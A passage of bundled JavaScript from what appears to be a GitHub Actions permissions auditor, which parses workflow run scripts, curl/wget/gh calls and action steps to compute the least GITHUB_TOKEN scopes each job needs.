            continue;
        endpoint ??= normalizeRawPath(raw[i] ?? a);
    }
    if (!endpoint)
        return { kind: 'unknown', what: 'gh api (no endpoint)' };
    const path = endpoint;
    // A full URL (an upload to uploads.github.com) is taken as it is: restNeeds reads its path.
    const absolute = path.startsWith('/') || path === 'graphql' || /^https?:\/\//i.test(path);
    return restNeeds(method ?? (body ? 'POST' : 'GET'), absolute ? path : `/${path}`);
}
/** The URL and method of a curl / wget / httpie call, when the URL can be read. */
function httpCall(tool, cmd) {
    let method;
    let body = false;
    let url;
    let urlRaw = '';
    const args = cmd.argv.slice(1);
    const raws = cmd.raw.slice(1);
    for (let i = 0; i < args.length; i++) {
        const a = args[i];
        const r = raws[i] ?? a;
        if (tool === 'curl') {
            if (a === '-X' || a === '--request') {
                method = args[++i]?.toUpperCase();
                continue;
            }
            if (/^-X[A-Z]+$/.test(a)) {
                method = a.slice(2);
                continue;
            }
            if (/^(-d|--data|--data-raw|--data-binary|--data-urlencode|--json|-F|--form|-T|--upload-file)$/.test(a)) {
                body = true;
                i++;
                continue;
            }
            if (/^(-H|--header|-o|--output|-u|--user|-A|--user-agent|-w|--write-out|--retry|-m|--max-time|--connect-timeout|-e|--referer|-b|--cookie|-c|--cookie-jar)$/.test(a)) {
                i++;
                continue;
            }
        }
        else if (tool === 'wget') {
            const m = /^--method=(.+)$/.exec(a);
            if (m) {
                method = m[1].toUpperCase();
                continue;
            }
            if (/^--(post-data|post-file|body-data|body-file)/.test(a))
                body = true;
            if (a === '--header' || a === '-O' || a === '-o') {
                i++;
                continue;
            }
        }
        else if (/^(GET|POST|PUT|PATCH|DELETE|HEAD)$/.test(a) && !url) {
            method = a;
            continue;
        }
        if (a.startsWith('-'))
            continue;
        if (!url && (/^https?:\/\//i.test(a) || /GITHUB_API_URL|github\.api_url|api\.github\.com/i.test(r))) {
            url = a;
            urlRaw = r;
        }
    }
    if (!url)
        return undefined;
    const verb = method ?? (body ? 'POST' : 'GET');
    const apiBase = /^\$\{?GITHUB_API_URL\}?|^\$\{\{\s*github\.api_url\s*\}\}/i;
    if (apiBase.test(urlRaw.replace(/^["']/, ''))) {
        const path = normalizeRawPath(urlRaw.replace(/^["']|["']$/g, '').replace(apiBase, ''));
        return { host: 'api', url: urlRaw, method: verb, path };
    }
    const match = /^https?:\/\/([^/]+)(\/[^\s]*)?$/i.exec(/^["']?https?:/i.test(urlRaw) ? normalizeRawPath(urlRaw) : url.replaceAll(src/* SHELL_DYNAMIC */.fy, 'x'));
    if (!match)
        return undefined;
    const host = match[1].toLowerCase();
    const path = match[2] ?? '/';
    if (host === 'api.github.com')
        return { host: 'api', url, method: verb, path };
    if (host === 'uploads.github.com')
        return { host: 'uploads', url, method: verb, path };
    return { host: 'other', url, method: verb, path };
}
/**
 * A path as written, made readable: the repository variables stand for `owner/repo`, any other
 * variable or expression for one placeholder segment, quotes dropped.
 */
function normalizeRawPath(raw) {
    return raw
        .replace(/["']/g, '')
        .replace(/\$\{\{\s*github\.repository\s*\}\}|\$\{?GITHUB_REPOSITORY\}?/g, 'owner/repo')
        .replace(/\$\{\{[^}]*\}\}|\$\{[^}]*\}|\$[A-Za-z_][A-Za-z0-9_]*|\$\([^)]*\)/g, 'x')
        .replaceAll(src/* SHELL_DYNAMIC */.fy, 'x');
}
/** `export NAME=value` (and declare/readonly/typeset) that hand the token to a variable. */
function exportedTokenVars(script, tokenVars) {
    const names = [];
    for (const match of script.matchAll(/(?:^|[;&|\s])(?:export|readonly|typeset|declare(?:\s+-\w+)*)\s+([A-Za-z_][A-Za-z0-9_]*)=("[^"\n]*"|'[^'\n]*'|\S*)/g)) {
        if (refersToToken(match[2]) || readsVariable(match[2] ?? '', tokenVars))
            names.push(match[1]);
    }
    return names;
}
function fromShellParse(script, parsed) {
    return parsed.commands.map((command) => {
        const pipeline = command.pipeline ? parsed.pipelines[command.pipeline.index] : undefined;
        return {
            argv: command.argv.map((w) => w.literal ?? w.text),
            raw: command.argv.map((w) => w.raw),
            offset: command.offset,
            pipelineText: pipeline ? script.slice(pipeline.offset, pipeline.end) : script.slice(command.offset, command.end),
            assignments: command.assignments.map((a) => ({ name: a.name, raw: a.value?.raw ?? '' })),
        };
    });
}
/**
 * A plain split for scripts that are not POSIX shell (pwsh, cmd) or that do not parse: one command per
 * line (continuations joined) or `;` / `&&` / `||` / `|` segment, words on blanks, quotes stripped.
 */
function simpleCommands(script) {
    const commands = [];
    const lineRe = /[^\n]*(?:\n|$)/g;
    let match;
    let pendingOffset = -1;
    let pending = '';
    while ((match = lineRe.exec(script)) && match[0] !== '') {
        const lineText = match[0].replace(/\r?\n$/, '');
        if (pendingOffset === -1)
            pendingOffset = match.index;
        if (/[\\`^]\s*$/.test(lineText)) {
            pending += lineText.replace(/[\\`^]\s*$/, ' ');
            continue;
        }
        pending += lineText;
        const statement = pending;
        const base = pendingOffset;
        pending = '';
        pendingOffset = -1;
        if (/^\s*(#|REM\b|::)/i.test(statement))
            continue;
        let cursor = 0;
        for (const segment of statement.split(/(\|\||&&|;|\|)/)) {
            if (/^(\|\||&&|;|\|)$/.test(segment)) {
                cursor += segment.length;
                continue;
            }
            // A word: runs of quoted strings, `${{ expressions }}` (spaces allowed inside) and plain characters.
            const words = segment.match(/(?:\$\{\{[^}]*\}\}|"[^"]*"|'[^']*'|[^\s"'$]+|\$)+/g) ?? [];
            const lead = segment.length - segment.trimStart().length;
            if (words.length) {
                const assignments = [];
                while (words.length && /^[A-Za-z_][A-Za-z0-9_]*=/.test(words[0])) {
                    const w = words.shift();
                    assignments.push({ name: w.slice(0, w.indexOf('=')), raw: w.slice(w.indexOf('=') + 1) });
                }
                commands.push({
                    argv: words.map((w) => w.replace(/"([^"]*)"|'([^']*)'/g, (_, d, q) => d ?? q ?? '')),
                    raw: words,
                    offset: base + cursor + lead,
                    pipelineText: statement,
                    assignments,
                });
            }
            cursor += segment.length;
        }
    }
    return commands;
}
/** Wrappers that run the rest of their words as a command, with the options each takes a value for. */
const WRAPPERS = {
    sudo: ['-u', '-g', '-C', '-D', '-p', '-U', '-h', '-r', '-t'],
    doas: ['-u', '-C'],
    command: [],
    builtin: [],
    exec: ['-a'],
    nohup: [],
    time: ['-f', '-o'],
    nice: ['-n'],
    ionice: ['-c', '-n'],
    stdbuf: ['-i', '-o', '-e'],
    xargs: ['-n', '-I', '-P', '-L', '-d', '-s', '-E', '-a'],
    timeout: ['-s', '-k', '--signal', '--kill-after'],
    retry: ['-t', '--times', '-d', '--delay'],
    npx: ['-p', '--package', '--call'],
    pnpx: [],
    bunx: ['-p', '--package'],
    uvx: ['--from', '--with', '--python', '-p'],
};
/** A few packages whose command is not the package name (`npx @changesets/cli publish`). */
const PACKAGE_BINS = {
    '@changesets/cli': 'changeset',
    '@semantic-release/cli': 'semantic-release',
};
/** Options that take a value, per program, so that positional words can be told from option values. */
const VALUE_OPTIONS = {
    npm: ['--workspace', '-w', '--prefix', '-C', '--registry', '--tag', '--access', '--otp', '--userconfig'],
    pnpm: ['--filter', '-F', '-C', '--dir', '--workspace-dir', '--tag', '--access', '--reporter', '--registry'],
    yarn: ['--cwd', '--tag', '--access', '--otp'],
    bun: ['--cwd', '--tag', '--access', '--otp', '--registry'],
    docker: [
        '-f',
        '--file',
        '-t',
        '--tag',
        '--platform',
        '--build-arg',
        '--target',
        '--label',
        '--cache-from',
        '--cache-to',
        '--builder',
        '--output',
        '-o',
        '--secret',
        '--progress',
        '--provenance',
        '--sbom',
        '--set',
        '--metadata-file',
        '-H',
        '--host',
        '--context',
        '--config',
        '-l',
        '--log-level',
    ],
    podman: ['-f', '--file', '-t', '--tag', '--creds', '--authfile'],
    mike: [
        '-b',
        '--branch',
        '-r',
        '--remote',
        '-m',
        '--message',
        '--deploy-prefix',
        '-F',
        '--config-file',
        '-t',
        '--title',
        '--alias-type',
        '--template',
    ],
    mkdocs: [
        '-f',
        '--config-file',
        '-r',
        '--remote-name',
        '-b',
        '--remote-branch',
        '-m',
        '--message',
        '-d',
        '--site-dir',
    ],
    cargo: [
        '-p',
        '--package',
        '--manifest-path',
        '--registry',
        '--token',
        '--features',
        '-F',
        '--target',
        '-j',
        '--index',
        '--config',
        '-Z',
    ],
    gem: ['--key', '--host', '--otp', '-k'],
    twine: [
        '-r',
        '--repository',
        '--repository-url',
        '-u',
        '--username',
        '-p',
        '--password',
        '-c',
        '--comment',
        '--config-file',
        '--sign-with',
        '-i',
        '--identity',
        '--cert',
        '--client-cert',
    ],
    goreleaser: [
        '-f',
        '--config',
        '--parallelism',
        '-p',
        '--timeout',
        '--release-notes',
        '--release-header',
        '--release-footer',
        '-k',
        '--key',
    ],
    helm: [
        '--registry-config',
        '--kube-context',
        '-n',
        '--namespace',
        '--cert-file',
        '--key-file',
        '--ca-file',
        '--username',
        '--password',
    ],
    make: ['-C', '-f', '--file', '--directory', '-j', '-I', '-o', '-W'],
    go: [
        '-C',
        '-o',
        '-tags',
        '-ldflags',
        '-gcflags',
        '-run',
        '-timeout',
        '-p',
        '-mod',
        '-modfile',
        '-exec',
        '-coverprofile',
    ],
};
/** Positional words of a command line: options (and the values of those that take one) dropped. */
function positional(args, program) {
    const valued = VALUE_OPTIONS[program] ?? [];
    const words = [];
    for (let i = 0; i < args.length; i++) {
        const a = args[i];
        if (a === '--')
            continue;
        if (a.startsWith('-')) {
            if (valued.includes(a))
                i++;
            continue;
        }
        words.push(a);
    }
    return words;
}
/** Drops `count` words, then the options of a wrapper (and their values). */
function dropWords(cmd, count, valued = []) {
    let i = count;
    while (i < cmd.argv.length && cmd.argv[i].startsWith('-')) {
        if (cmd.argv[i] === '--') {
            i++;
            break;
        }
        if (valued.includes(cmd.argv[i]))
            i++;
        i++;
    }
    return { ...cmd, argv: cmd.argv.slice(i), raw: cmd.raw.slice(i) };
}
function skipAssignments(cmd) {
    const assignments = [...cmd.assignments];
    let i = 0;
    while (i < cmd.argv.length && /^[A-Za-z_][A-Za-z0-9_]*=/.test(cmd.raw[i] ?? '')) {
        const raw = cmd.raw[i];
        assignments.push({ name: raw.slice(0, raw.indexOf('=')), raw: raw.slice(raw.indexOf('=') + 1) });
        i++;
    }
    return { ...cmd, argv: cmd.argv.slice(i), raw: cmd.raw.slice(i), assignments };
}
const SCRIPT_RUNNERS = {
    npm: ['exec', 'x'],
    pnpm: ['exec', 'dlx'],
    yarn: ['exec', 'dlx'],
    bun: ['x'],
    bundle: ['exec'],
    poetry: ['run'],
    uv: ['run', 'tool run'],
    pipenv: ['run'],
    hatch: ['run'],
    pdm: ['run'],
    pipx: ['run'],
};
/**
 * The command a wrapper runs (`sudo`, `env A=1`, `npx`, `pnpm exec`, `python -m`, `bundle exec`), or
 * the script a shell is given with `-c`.
 */
function peel(input) {
    let cmd = input;
    for (let round = 0; round < 8 && cmd.argv.length; round++) {
        const name = baseName(cmd.argv[0]);
        const second = cmd.argv[1] ?? '';
        if (name === 'env') {
            cmd = skipAssignments(dropWords(cmd, 1, ['-u', '--unset', '-C', '--chdir', '-S', '--split-string']));
            continue;
        }
        if (WRAPPERS[name]) {
            cmd = dropWords(cmd, 1, WRAPPERS[name]);
            if (name === 'timeout' && cmd.argv.length > 1)
                cmd = dropWords(cmd, 1);
            if (['npx', 'pnpx', 'bunx', 'uvx'].includes(name) && cmd.argv.length) {
                const pkg = cmd.argv[0].replace(/(?<=.)@[^/]*$/, '');
                const bin = PACKAGE_BINS[pkg] ?? pkg.replace(/^@[^/]+\//, '');
                cmd = { ...cmd, argv: [bin, ...cmd.argv.slice(1)] };
            }
            continue;
        }
        const runners = SCRIPT_RUNNERS[name];
        if (runners?.includes(second)) {
            cmd = dropWords(cmd, 2, ['-p', '--package', '--from', '--with']);
            continue;
        }
        if (['yarn', 'pnpm', 'bun'].includes(name) &&
            COMMAND_KNOWLEDGE.some((k) => k.programs.includes(second)) &&
            !COMMAND_KNOWLEDGE.some((k) => k.programs.includes(name) && k.words[0] === second)) {
            cmd = dropWords(cmd, 1);
            continue;
        }
        if (/^python(\d+(\.\d+)?)?$/.test(name) && second === '-m' && cmd.argv[2]) {
            cmd = { ...cmd, argv: cmd.argv.slice(2), raw: cmd.raw.slice(2) };
            continue;
        }
        if (POSIX_SHELLS.includes(name)) {
            const flag = cmd.argv.findIndex((a, i) => i > 0 && /^-[a-z]*c[a-z]*$/i.test(a));
            if (flag !== -1 && cmd.argv[flag + 1] !== undefined && !cmd.argv[flag + 1].includes(src/* SHELL_DYNAMIC */.fy))
                return { cmd, code: cmd.argv[flag + 1] };
        }
        break;
    }
    return { cmd };
}
/** Verbs of PowerShell cmdlets that only read, write files or format output (not `Invoke-Expression`, `Start-Process`, `Import-Module`). */
const PWSH_VERBS = new Set('add clear Compare Compress Convert ConvertFrom ConvertTo Copy Expand Export Format Get Group Join Measure Move New Out Pop Push Remove Rename Resolve Select Set Sort Split Test Where Write ForEach Tee Update'
    .toLowerCase()
    .split(' '));
/** A PowerShell cmdlet with one of those verbs, a web request (read like curl for the token), or block punctuation. */
function isPowerShellBuiltin(name, cmd) {
    if (/^[{}()@]|^[{}()@;]*$/.test(cmd.raw[0] ?? ''))
        return true;
    const match = /^([A-Za-z]+)-[A-Za-z]+$/.exec(name);
    if (!match)
        return false;
    return PWSH_VERBS.has(match[1].toLowerCase()) || /^invoke-(webrequest|restmethod)$/i.test(name);
}
/** Build tools whose targets are scripts of the repository. */
const TASK_RUNNERS = new Set('make gmake just task rake mage invoke gradle gradlew mvn mvnw ant sbt bazel bazelisk nx turbo lerna earthly dagger tox nox'.split(' '));
/** Interpreters that run a file or a string of code. */
const INTERPRETERS = new Set('bash sh zsh dash ksh source . node python python2 python3 ruby perl php deno tsx ts-node pwsh powershell rscript julia lua java dotnet eval'.split(' '));
/** What makes a command code of the repository (a script, a make target, a package.json script), or undefined. */
function repositoryCode(cmd, name, words) {
    const written = cmd.argv[0] ?? '';
    if (written.includes('/') && !written.startsWith('/'))
        return /^[~$]/.test(written)
            ? `runs ${written}, a program the knowledge base does not know`
            : `runs ${written}, a script of the repository`;
    if (TASK_RUNNERS.has(name))
        return `runs \`${[name, ...words.slice(0, 1)].join(' ')}\`, a build target of the repository`;
    if (INTERPRETERS.has(name)) {
        const args = cmd.argv.slice(1);
        const onlyInfo = args.length > 0 && args.every((a) => /^(-v|-V|--version|--help|-h)$/.test(a));
        if (!onlyInfo)
            return `runs ${words[0] ? `${name} ${words[0]}` : `\`${name}\``}, code the audit does not read`;
        return undefined;
    }
    if (['npm', 'pnpm', 'yarn', 'bun'].includes(name)) {
        const first = words[0];
        if (first && ['run', 'run-script', 'rum', 'urn', 'start', 'restart', 'stop'].includes(first))
            return `runs \`${name} ${words.slice(0, 2).join(' ')}\`, a package.json script of the repository`;
        const known = KNOWN_TOOLS[name];
        if (first && name !== 'npm' && Array.isArray(known) && !known.includes(first))
            return `runs \`${name} ${first}\`, a package.json script or tool of the repository`;
    }
    return undefined;
}
/** Records a command the audit cannot read: it may use every right a program can reach here. */
function opaque(result, info, what, offset) {
    result.mayUse.push({
        rights: reachableRights(info.gitCredentials),
        why: `${what}: ${reachWhy(info.gitCredentials)}`,
        offset,
    });
    if (info.persistedCredentials || info.gitCredentials)
        result.gitCredentialsBy ??= what.replace(/^runs /, '');
}
/**
 * A command past the cases read above: a known publisher (kept rights, needs with the token), code of
 * the repository or an unknown tool (every reachable right kept), or a known tool (nothing).
 */
function classify(result, cmd, name, args, info, gitAuth, tokenReaches) {
    const words = positional(args, name);
    const hasOption = (o) => args.some((a) => a === o || a.startsWith(`${o}=`));
    const knowledge = COMMAND_KNOWLEDGE.find((k) => k.programs.includes(name) &&
        k.words.every((w, i) => words[i] === w) &&
        (!k.anyOption || k.anyOption.some(hasOption)) &&
        !(k.notWords ?? []).includes(words[0] ?? ''));
    if (knowledge) {
        publisher(result, cmd, knowledge, info, gitAuth, tokenReaches);
        return;
    }
    const repo = repositoryCode(cmd, name, words);
    const known = KNOWN_TOOLS[name];
    const listed = known === true || (Array.isArray(known) && (words.length === 0 || known.includes(words[0])));
    if (!repo && listed) {
        if (tokenReaches)
            unknownCommand(result, cmd, name);
        return;
    }
    const display = `\`${[name, ...words.slice(0, 1)].join(' ').replace(SHELL_DYNAMIC_RE, '…')}\``;
    opaque(result, info, repo ??
        (known
            ? `runs ${display}, a subcommand the knowledge base does not know`
            : `runs ${display}, a tool the knowledge base does not know`), cmd.offset);
    if (tokenReaches)
        unknownCommand(result, cmd, name);
}
function publisher(result, cmd, k, info, gitAuth, tokenReaches) {
    const rights = [];
    const why = [];
    if (k.oidc) {
        rights.push('id-token');
        why.push(k.oidc);
    }
    if (k.pushes) {
        if (gitAuth) {
            result.needs.push({
                scope: 'contents',
                level: 'write',
                reason: `${k.pushes} (${k.command})`,
                offset: cmd.offset,
            });
        }
        if (info.persistedCredentials || info.gitCredentials)
            result.gitCredentialsBy ??= `${k.command} (${k.pushes})`;
    }
    if (tokenReaches) {
        if (k.withToken)
            for (const n of k.withToken)
                result.needs.push({ ...n, offset: cmd.offset });
        else
            unknownCommand(result, cmd, k.command);
    }
    if (rights.length)
        result.mayUse.push({ rights, why: `runs \`${k.command}\`: ${why.join('; ')} (${k.source})`, offset: cmd.offset });
}

;// CONCATENATED MODULE: ./packages/permissions/src/engine.ts




const RANK = { read: 1, write: 2 };
class Accumulator {
    scopes = {};
    reasons = {};
    unknown = [];
    mayUse = [];
    gitCredentialsBy;
    usesCredentials(by) {
        this.gitCredentialsBy ??= by;
    }
    levels = new Map();
    add(scope, level, reason) {
        const current = this.scopes[scope];
        if (!current || RANK[level] > RANK[current])
            this.scopes[scope] = level;
        const list = (this.reasons[scope] ??= []);
        if (!list.includes(reason))
            list.push(reason);
        this.levels.set(`${scope}\0${reason}`, level);
    }
    /** Adds what a called workflow or composite action needs; its unknowns are reported at the call site. */
    merge(other, prefix, callSite) {
        for (const [scope, level] of Object.entries(other.scopes)) {
            // The first reasons are those for the level (see result()); the rest may be for less.
            (other.reasons[scope] ?? []).forEach((reason, i) => this.add(scope, i === 0 ? level : 'read', `${prefix}${reason}`));
        }
        const relocate = (use) => use.file === callSite.file
            ? use
            : { ...use, ...callSite, message: `${callSite.message}${use.message} (${use.file}:${use.line})` };
        for (const unknown of other.unknown)
            this.unknown.push(relocate(unknown));
        for (const use of other.mayUse)
            this.mayUse.push(relocate(use));
    }
    result() {
        const scopes = {};
        const reasons = {};
        for (const scope of Object.keys(this.scopes).sort()) {
            scopes[scope] = this.scopes[scope];
            // The reasons for the level granted come first: they are the ones a comment must name.
            const level = this.scopes[scope];
            const list = this.reasons[scope] ?? [];
            reasons[scope] = [
                ...list.filter((r) => this.levels.get(`${scope}\0${r}`) === level),
                ...list.filter((r) => this.levels.get(`${scope}\0${r}`) !== level),
            ];
        }
        // A right already needed at its highest level cannot be used for more.
        const mayUse = this.mayUse
            .map((use) => ({ ...use, rights: use.rights.filter((r) => scopes[r] !== 'write') }))
            .filter((use) => use.rights.length);
        return {
            scopes,
            reasons,
            unknown: this.unknown,
            mayUse,
            explained: this.unknown.length === 0 && mayUse.length === 0,
            usesGitCredentials: this.gitCredentialsBy !== undefined,
            ...(this.gitCredentialsBy !== undefined ? { gitCredentialsBy: this.gitCredentialsBy } : {}),
        };
    }
}
/**
 * What one job needs. Unknown actions, scripts that hand the token to something unreadable, and
 * unreadable called workflows are listed in `unknown` (and `explained` is false): the caller must then
 * keep the job's current grant, never remove a right it cannot prove unneeded.
 */
function computeJobPermissions(wf, job, options = {}) {
    return computeJob(wf, job, options, new Set([wf.file]));
}
function computeJob(wf, job, options, visiting) {
    const acc = new Accumulator();
    if (job.uses) {
        reusableWorkflow(wf, job, job.uses, acc, options, visiting);
        return acc.result();
    }
    analyzeSteps(wf, job.steps, [wf.env, job.env], new Map(), acc, options, visiting);
    return acc.result();
}
function substitute(value, inputs) {
    if (!inputs.size || !value.includes('inputs'))
        return value;
    return value.replace(/\$\{\{\s*inputs\.([A-Za-z0-9_-]+)\s*\}\}/g, (whole, name) => inputs.get(name) ?? whole);
}
function analyzeSteps(wf, steps, envLayers, inputs, acc, options, visiting, inheritedGitCredentials = false, inheritedPersisted = inheritedGitCredentials) {
    let gitCredentials = inheritedGitCredentials;
    // Credentials of any token (a PAT too) left in .git/config: a later push may rely on them.
    let persisted = inheritedPersisted;
    for (const step of steps) {
        const stepLabel = step.id ?? step.name ?? `#${step.index + 1}`;
        const rawEnv = mergeEnv(...envLayers, step.env.map((kv) => ({ ...kv, value: { ...kv.value, value: substitute(kv.value.value, inputs) } })));
        const tokenVars = tokenVariables(rawEnv);
        if (step.run) {
            const text = substitute(step.run.text, inputs);
            const analysis = analyzeRunScript(text, {
                tokenVars,
                env: rawEnv,
                gitCredentials,
                persistedCredentials: persisted,
                shell: step.shell?.value,
            });
            const label = `step ${stepLabel}`;
            for (const need of analysis.needs)
                acc.add(need.scope, need.level, `${label}: ${need.reason}`);
            if (analysis.gitCredentialsBy)
                acc.usesCredentials(`${label}: ${analysis.gitCredentialsBy}`);
            const where = (offset) => {
                const pos = text === step.run.text ? step.run.offsetToPosition(offset) : step.run.position;
                return { line: pos.line, column: pos.column, file: wf.file, step: stepLabel };
            };
            for (const unknown of analysis.unknown)
                acc.unknown.push({ message: `${label}: ${unknown.message}`, ...where(unknown.offset) });
            for (const use of analysis.mayUse)
                acc.mayUse.push({ message: `${label}: ${use.why}`, rights: use.rights, ...where(use.offset) });
            continue;
        }
        if (!step.uses)
            continue;
        const uses = step.uses.value.trim();
        const withValues = new Map();
        for (const [name, located] of step.with)
            withValues.set(name, substitute(located.value, inputs));
        const explicitToken = [...withValues.values()].some(refersToToken) || tokenVars.size > 0;
        const at = (message) => ({
            message,
            line: step.uses.line,
            column: step.uses.column,
            file: wf.file,
            step: stepLabel,
        });
        if (uses.startsWith('docker://')) {
            // An image the knowledge base does not know: the workspace (and .git/config) is mounted into it,
            // and the OIDC request variables are passed to it.
            acc.mayUse.push({
                ...at(`step ${stepLabel}: runs the container ${uses}, a tool the knowledge base does not know: ${reachWhy(gitCredentials)}`),
                rights: reachableRights(gitCredentials),
            });
            if (persisted)
                acc.usesCredentials(`step ${stepLabel}: the container ${uses}`);
            // A container action gets the token only through with: or env:.
            if (explicitToken)
                acc.unknown.push(at(`step ${stepLabel}: the container ${uses} receives the GITHUB_TOKEN; what it does with it cannot be known`));
            continue;
        }
        if (uses.startsWith('./') || uses.startsWith('../')) {
            localAction(wf, uses, stepLabel, withValues, explicitToken, gitCredentials, persisted, acc, options, visiting, at);
            continue;
        }
        const knowledge = lookupAction(uses);
        if (!knowledge) {
            acc.unknown.push(at(`step ${stepLabel}: ${splitUses(uses).name} is not in the knowledge base; its token use cannot be known`));
            continue;
        }
        const receives = receivesToken(knowledge, withValues, rawEnv, gitCredentials);
        if (knowledge.token?.gitCredentials && persisted)
            acc.usesCredentials(`step ${stepLabel} (${splitUses(uses).name}): pushes with git`);
        const label = `step ${stepLabel} (${splitUses(uses).name})`;
        applyKnowledge(knowledge, withValues, receives, label, acc, at);
        for (const use of knowledge.mayUse ?? [])
            acc.mayUse.push({ ...at(`${label}: ${use.reason}`), rights: [use.scope] });
        for (const input of knowledge.runsInputs ?? []) {
            const command = withValues.get(input);
            if (!command?.trim())
                continue;
            // The action runs the command in its own process: the step's environment, token included.
            const analysis = analyzeRunScript(command, {
                tokenVars,
                env: rawEnv,
                gitCredentials,
                persistedCredentials: persisted,
            });
            const where = `${label} ${input}: `;
            for (const need of analysis.needs)
                acc.add(need.scope, need.level, `${where}${need.reason}`);
            if (analysis.gitCredentialsBy)
                acc.usesCredentials(`${where}${analysis.gitCredentialsBy}`);
            for (const unknown of analysis.unknown)
                acc.unknown.push(at(`${where}${unknown.message}`));
            for (const use of analysis.mayUse)
                acc.mayUse.push({ ...at(`${where}${use.why}`), rights: use.rights });
        }
        if (splitUses(uses).name === 'actions/checkout') {
            const persist = (withValues.get('persist-credentials') ?? 'true').trim().toLowerCase();
            const token = withValues.get('token');
            if (persist === 'false') {
                gitCredentials = false;
                persisted = false;
            }
            else {
                persisted = true;
                gitCredentials = token === undefined || refersToToken(token);
            }
        }
    }
}
function receivesToken(knowledge, withValues, env, gitCredentials) {
    const intake = knowledge.token;
    if (!intake)
        return false;
    if (intake.always)
        return true;
    if (intake.input) {
        const given = withValues.get(intake.input) ?? findCaseInsensitive(withValues, intake.input);
        if (given !== undefined
            ? refersToToken(given) || (given.trim() === '' && intake.defaultsToGithubToken === true)
            : intake.defaultsToGithubToken === true)
            return true;
    }
    if (intake.env?.some((name) => env.get(name)?.token))
        return true;
    if (intake.gitCredentials && gitCredentials)
        return true;
    return false;
}
function findCaseInsensitive(map, name) {
    for (const [key, value] of map)
        if (key.toLowerCase() === name.toLowerCase())
            return value;
    return undefined;
}
/** Whether a condition holds: 'yes', 'no', or 'maybe' (an expression decides at run time). */
function evaluate(condition, withValues, defaults) {
    const raw = withValues.get(condition.input) ?? defaults[condition.input] ?? '';
    if (isExpression(raw))
        return 'maybe';
    const value = raw.trim().toLowerCase();
    if (condition.set !== undefined && (value !== '') !== condition.set)
        return 'no';
    if (condition.oneOf && !condition.oneOf.includes(value))
        return 'no';
    if (condition.notOneOf && condition.notOneOf.includes(value))
        return 'no';
    if (condition.matches && !new RegExp(condition.matches, 'i').test(value))
        return 'no';
    return 'yes';
}
function applyKnowledge(knowledge, withValues, receives, label, acc, at) {
    for (const need of knowledge.needs) {
        if ((need.via ?? 'token') === 'token' && !receives)
            continue;
        const verdict = conditionsHold(need, withValues, knowledge.defaults ?? {});
        if (verdict === 'no')
            continue;
        acc.add(need.scope, need.level, `${label}: ${need.reason}${verdict === 'maybe' ? ' (decided by an expression at run time)' : ''}`);
    }
    if (knowledge.analyze && receives) {
        const input = withValues.get(knowledge.analyze.input);
        if (input === undefined || input.trim() === '') {
            acc.unknown.push(at(`${label}: no ${knowledge.analyze.input} input to read; what it does with the token cannot be known`));
            return;
        }
        const needs = knowledge.analyze.kind === 'github-script'
            ? githubScriptNeeds(input)
            : (() => {
                const match = /^\s*(GET|POST|PUT|PATCH|DELETE|HEAD)\s+(\S+)/i.exec(input);
                return match ? [restNeeds(match[1], match[2])] : [restNeeds('GET', input.trim())];
            })();
        if (knowledge.analyze.kind === 'github-script' && /\brequire\s*\(|\bimport\s*\(/.test(input)) {
            acc.unknown.push(at(`${label}: the script loads other code; what it does with the token cannot be known`));
        }
        for (const need of needs) {
            if (need.kind === 'unknown')
                acc.unknown.push(at(`${label}: cannot tell which scopes ${need.what} needs`));
            else
                for (const s of need.scopes)
                    acc.add(s.scope, s.level, `${label}: ${need.what}`);
        }
    }
}
function conditionsHold(need, withValues, defaults) {
    if (!need.when)
        return 'yes';
    const list = Array.isArray(need.when) ? need.when : [need.when];
    let verdict = 'yes';
    for (const condition of list) {
        const v = evaluate(condition, withValues, defaults);
        if (v === 'no')
            return 'no';
        if (v === 'maybe')
            verdict = 'maybe';
    }
    return verdict;
}
function localAction(wf, uses, stepLabel, withValues, explicitToken, gitCredentials, persisted, acc, options, visiting, at) {
    const dir = uses.replace(/^\.\/?/, '').replace(/\/+$/, '');
    const prefix = dir ? `${dir}/` : '';
    const action = options.loadLocal?.(`${prefix}action.yml`) ?? options.loadLocal?.(`${prefix}action.yaml`);
    if (!action || action.errors.length || !action.action) {
        const why = !action
            ? 'no action.yml there'
            : action.errors.length
                ? `${action.errors[0].message} (line ${action.errors[0].line})`
                : 'not an action';
        acc.unknown.push(at(`step ${stepLabel}: the local action ${uses} could not be read: ${why}`));
        return;
    }
    const inputs = new Map();
    let defaultToken = false;
    for (const input of action.action.inputs) {
        const given = withValues.get(input.name);
        const value = given ?? input.default?.value ?? '';
        inputs.set(input.name, value);
        if (given === undefined && refersToToken(input.default?.value))
            defaultToken = true;
    }
    const using = action.action.runs?.using?.value.toLowerCase() ?? '';
    if (using === 'composite') {
        if (visiting.has(action.file))
            return;
        visiting.add(action.file);
        const sub = new Accumulator();
        analyzeSteps(action, action.action.runs?.steps ?? [], [], inputs, sub, options, visiting, gitCredentials, persisted);
        visiting.delete(action.file);
        if (sub.gitCredentialsBy)
            acc.usesCredentials(`step ${stepLabel} (${uses}) > ${sub.gitCredentialsBy}`);
        acc.merge(sub.result(), `step ${stepLabel} (${uses}) > `, at(`step ${stepLabel} (${uses}): `));
        return;
    }
    // A JavaScript or container action of the repository: code the audit does not read.
    const what = `step ${stepLabel}: runs the local ${using ? `${using} action` : 'action'} ${uses}, code of the repository`;
    acc.mayUse.push({
        ...at(`${what}: ${reachWhy(gitCredentials)}`),
        rights: reachableRights(gitCredentials),
    });
    if (persisted)
        acc.usesCredentials(what);
    if (explicitToken || defaultToken) {
        acc.unknown.push(at(`step ${stepLabel}: the local ${using || 'action'} ${uses} receives the GITHUB_TOKEN; what it does with it cannot be known`));
    }
}
function reusableWorkflow(wf, job, uses, acc, options, visiting) {
    const value = uses.value.trim();
    const at = (message) => ({ message, line: uses.line, column: uses.column, file: wf.file });
    let called;
    if (value.startsWith('./')) {
        const path = value.slice(2);
        called = options.loadLocal?.(path);
        if (!called) {
            acc.unknown.push(at(`job ${job.id}: the called workflow ${value} could not be read`));
            return;
        }
    }
    else {
        const knowledge = lookupAction(value);
        if (knowledge) {
            applyKnowledge(knowledge, new Map([...job.with].map(([k, v]) => [k, v.value])), true, `job ${job.id} (${splitUses(value).name})`, acc, at);
            return;
        }
        const fetched = options.remote?.(value);
        if (!fetched) {
            acc.unknown.push(at(`job ${job.id}: the called workflow ${value} is in another repository; give github-token to read it`));
            return;
        }
        if ('error' in fetched) {
            acc.unknown.push(at(`job ${job.id}: the called workflow ${value} could not be read: ${fetched.error}`));
            return;
        }
        called = fetched.file;
    }
    if (called.errors.length) {
